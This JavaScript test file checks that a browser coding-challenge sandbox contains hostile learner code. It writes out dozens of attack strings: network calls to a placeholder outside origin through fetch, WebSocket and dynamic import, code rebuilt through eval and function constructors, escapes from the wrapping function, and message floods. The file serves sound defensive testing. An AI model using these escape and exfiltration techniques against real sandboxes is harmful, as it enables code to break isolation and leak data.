// challenge_sandbox.test.mjs: the coding challenge's sandbox holds against hostile code.
// Code that tries to reach another origin (every network door, every way to rebuild one
// from a string, every form of import), to flood the page with messages, or to send back
// BigInts, cycles or megabytes is graded with a clear message; the other origin hears
// nothing; the page keeps working; and an honest solution still passes, also when it says
// "import" in a comment, a string or a name.
import { runTest, openPage, ready, check } from './harness.mjs';
import { otherOrigin } from './other_origin.mjs';

import { weightsSolution as solution } from './challenge_solutions.mjs';
const withSolution = (attack) => `${attack}\n${solution}`;
const returning = (body) => `function attentionWeights(query, keys) { ${body} }`;

// OUT and WS stand for the other origin's http:// and ws:// addresses.
const attacks = [
  ['synchronous XMLHttpRequest', withSolution("const x = new XMLHttpRequest(); x.open('GET', OUT + 'xhr', false); x.send();"),
    /XMLHttpRequest is not available/],
  ['fetch', withSolution("fetch(OUT + 'fetch');"), /fetch is not available/],
  ['fetch inside the function', returning("fetch(OUT + 'fetch-in-function'); return [1];"), /fetch is not available/],
  ['importScripts', withSolution("importScripts(OUT + 'scripts.js');"), /importScripts is not available/],
  ['WebSocket', withSolution("new WebSocket(WS + 'socket');"), /WebSocket is not available/],
  ['EventSource', withSolution("new EventSource(OUT + 'event-source');"), /EventSource is not available/],
  // import() is syntax, not a door the worker could shut: the frame's policy refuses every
  // load, and the refusal is told. Mentioning the word is fine.
  ['dynamic import()', withSolution("import(OUT + 'module.js');"), /tried to load http:\/\/127\.0\.0\.1:\d+\/module\.js/],
  ['import with a comment before its brackets', withSolution("import /*x*/ (OUT + 'comment.js');"),
    /tried to load http:\/\/127\.0\.0\.1:\d+\/comment\.js/],
  ['import with a new line before its brackets', withSolution("import\n(OUT + 'newline.js');"),
    /tried to load http:\/\/127\.0\.0\.1:\d+\/newline\.js/],
  ['import awaited inside the function', returning("await import(OUT + 'awaited.js'); return [1];")
    .replace('function', 'async function'), /tried to load http:\/\/127\.0\.0\.1:\d+\/awaited\.js/],
  ['import of a data: URL', withSolution("import('data:text/javascript,self.reached = 1');"), /tried to load a data: URL/],
  ['import of a blob: URL', withSolution(
    "import(URL.createObjectURL(new Blob(['self.reached = 1'], { type: 'text/javascript' })));"), /tried to load a blob: URL/],
  ['import from a timer', withSolution("setTimeout(() => import(OUT + 'timer.js'), 0);"),
    /tried to load http:\/\/127\.0\.0\.1:\d+\/timer\.js/],
  ['an import statement', withSolution("import weights from OUT;"), /syntax error \(Cannot use import statement outside a module/],
  ['import.meta', withSolution('const here = import.meta.url;'), /syntax error \(Cannot use 'import\.meta' outside a module/],
  // Too late to be told (the grade is in), still loads nothing: the other origin hears nothing.
  ['an import long after the grade', withSolution("setTimeout(() => import(OUT + 'late.js'), 500);"),
    /^All 6 hidden cases match/],
  ['the word import in comments, strings and names', withSolution(`// import the weights
/* import(url) would load code */
const important = 'import(OUT)';
const notes = { import: 1, imports: \`import \${important}\` };
const pattern = /import\\(/;
const tools = { import(x) { return x; } };
tools.import(notes.import);`), /^All 6 hidden cases match/],
  // The frame has an opaque origin (no allow-same-origin): the page's origin is not its own.
  ['the sandbox\'s own origin', returning('throw new Error(String(self.origin));'), /threw: null\b/],
  ['a nested Worker', withSolution(
    "new Worker(URL.createObjectURL(new Blob([\"fetch('\" + OUT + \"nested-worker')\"], { type: 'text/javascript' })));"),
  /Worker is not available/],
  ['BroadcastChannel', withSolution("new BroadcastChannel('attention-tour').postMessage('hello');"),
    /BroadcastChannel is not available/],
  ['eval', withSolution("eval(\"fetch('\" + OUT + \"eval')\");"), /eval is not available/],
  ['Function', withSolution("Function(\"fetch('\" + OUT + \"function')\")();"), /Function is not available/],
  ['a function\'s constructor', withSolution(
    "(function () {}).constructor('return self[\"fe\" + \"tch\"]')()(OUT + 'constructor');"), /Function is not available/],
  ['the async function constructor', withSolution(
    "(async function () {}).constructor(\"await fetch('\" + OUT + \"async')\")();"), /AsyncFunction is not available/],
  ['the generator constructor', withSolution(
    "(function* () {}).constructor(\"fetch('\" + OUT + \"generator')\")().next();"), /GeneratorFunction is not available/],
  ['the async generator constructor', withSolution(
    "(async function* () {}).constructor(\"fetch('\" + OUT + \"async-generator')\")().next();"),
  /AsyncGeneratorFunction is not available/],
  ['setTimeout with a string', withSolution("setTimeout(\"fetch('\" + OUT + \"timeout')\", 0);"), /setTimeout takes a function/],
  ['a 100k postMessage flood', withSolution('for (let i = 0; i < 100000; i++) postMessage({ answers: [], i });'),
    /postMessage is not available/],
  ['postMessage from the global\'s prototype', withSolution(
    'const post = Object.getPrototypeOf(self).postMessage || self.postMessage; post.call(self, [[1]]);'),
  /postMessage is not available/],
  ['posting a BigInt', withSolution('postMessage(1n);'), /postMessage is not available/],
  ['posting a cyclic object', withSolution('const o = {}; o.o = o; postMessage(o);'), /postMessage is not available/],
  // The learner's code is the body of a function in the worker's own script (no eval): it is
  // parsed on its own first, so it cannot close that function and declare things at the top
  // (which would replace the worker's own setTimeout before its lockdown), nor swallow what follows.
  ['closing the function around the code', `}); function setTimeout() {} attentionTourTake(function () {\n${solution}`,
    /syntax error \(Unexpected token '\}', line 1\)/],
  ['closing it in the middle', `${solution}\n}); function setTimeout() {} (function () {\n${solution}`,
    /syntax error \(Unexpected token '\}', line 8\)/],
  ['a comment left open at the end', `${solution}\n/* the rest`, /syntax error \(Invalid or unexpected token, line 8\)/],
  ['a template left open at the end', `${solution}\nconst rest = \``, /syntax error \((Unterminated template literal|Unexpected end of input), line 8\)/],
  ['a top-level return', `return 1;\n${solution}`, /syntax error \(Illegal return statement, line 1\)/],
  ['braces in a regular expression, a template, strings and comments', `const braces = /[}{]/; // }
const t = \`}\${'{'}\`, u = '})', v = "/*";
/* }) */ ${solution.replace(/\n/g, '\r\n')}
// a last line with half a surrogate pair \uD800 and no new line`, /^All 6 hidden cases match/],
  ['compiling WebAssembly', withSolution('WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));'),
    /tried to turn a string or bytes into code \(wasm-eval\)/],
  ['returning a BigInt', returning('return 3n;'), /bigint, not an array/i],
  ['returning BigInt weights', returning('return keys.map(() => 1n);'), /bigint as weight 1/i],
  ['returning a cyclic array', returning('const a = keys.map(() => 0.5); a[0] = a; return a;'), /array as weight 1/],
  ['returning 2 million numbers', returning('return new Array(2e6).fill(0.25);'), /returned 2000000 weights/],
  ['a 2 MB error from the function', returning("throw new Error('x'.repeat(2e6));"), /threw: x{100}/],
  ['a 2 MB error at the top', "throw new Error('x'.repeat(2e6));", /stopped with an error \(x{100}/],
  ['an error with half a surrogate pair', returning("throw new Error('half ' + String.fromCharCode(0xD800) + ' pair');"),
    /threw: half \uFFFD pair/],
  ['an error that cannot be printed', returning('throw { get message() { throw 1; }, toString() { throw 2; } };'),
    /threw: something that cannot be shown as text/],
  ['calling the worker\'s own listener again', withSolution(
    "self.dispatchEvent(new MessageEvent('message', { data: { code: 'function attentionWeights() {}', cases: [] } }));"),
  /^All 6 hidden cases match/],
  ['replacing built-ins the worker uses', withSolution(
    "Array.isArray = () => true; String.prototype.slice = () => 'x'.repeat(1e6); Function.prototype.bind = null;"),
  /^All 6 hidden cases match/],
  ['late errors from timers', withSolution("for (let i = 0; i < 200; i++) setTimeout(() => { throw new Error('late'); }, 0);"),
    /^All 6 hidden cases match/],
];

// A grade that never arrives is reported as such instead of stalling the test.
function gradeIn(page, code) {
  return page.evaluate(async (c) => {
    const hung = new Promise((resolve) => setTimeout(() => resolve({ hung: true }), 45000));
    try {
      return await Promise.race([window.attentionTour.gradeChallenge(c), hung]);
    } catch (e) {
      return { threw: String(e && e.message || e) };
    }
  }, code);
}

function judge(name, grade, expected) {
  if (grade.hung) return `${name}: the grade never arrived`;
  if (grade.threw) return `${name}: gradeChallenge threw ${grade.threw.slice(0, 200)}`;
  const message = typeof grade.message === 'string' ? grade.message : '';
  if (!expected.test(message) || message.length > 1200)
    return `${name}: unexpected message (${message.length} chars): ${message.slice(0, 300)}`;
  return '';
}

async function pageStillWorks(page) {
  const state = await page.evaluate(() => window.attentionTour.getState());
  check(state.stepCount > 1 && typeof state.stepId === 'string' && typeof state.challengeMessage === 'string', 'getState() still works');
  const before = await page.evaluate(() => window.attentionTour.stats().frames);
  await page.evaluate(() => window.Module.ccall('at_wake', null, [], []));
  await page.waitForFunction((f) => window.attentionTour.stats().frames > f, before, { timeout: 30000 });
  check(true, 'frames still advance after a wake');
}

const outside = await otherOrigin();
try {
  await runTest('challenge_sandbox', async ({ browser, url }) => {
    const { page, errors } = await openPage(browser, url);
    await ready(page);
    const problems = [];
    for (const [name, template, expected] of attacks) {
      const code = template.replaceAll('OUT', JSON.stringify(outside.url)).replaceAll('WS', JSON.stringify(outside.ws));
      const problem = judge(name, await gradeIn(page, code), expected);
      console.log(problem ? `not ok - ${problem}` : `ok - ${name} is contained and explained`);
      if (problem) problems.push(problem);
    }
    const honest = await gradeIn(page, solution);
    check(honest.passed && honest.passedCases === 6, `an honest solution still passes 6 of 6: ${honest.message}`);
    await page.waitForTimeout(3000);  // time for any late request to arrive
    check(outside.heard.length === 0 && outside.connections() === 0,
      `the other origin heard nothing (${outside.connections()} connections: ${outside.heard.join(', ')})`);
    check(problems.length === 0, `every hostile submission is graded with a clear message (${problems.length} not)`);
    await pageStillWorks(page);
    check(errors.length === 0, `no page errors (${errors.slice(0, 5).join(' | ').slice(0, 600)})`);
  });
} finally {
  outside.close();
}
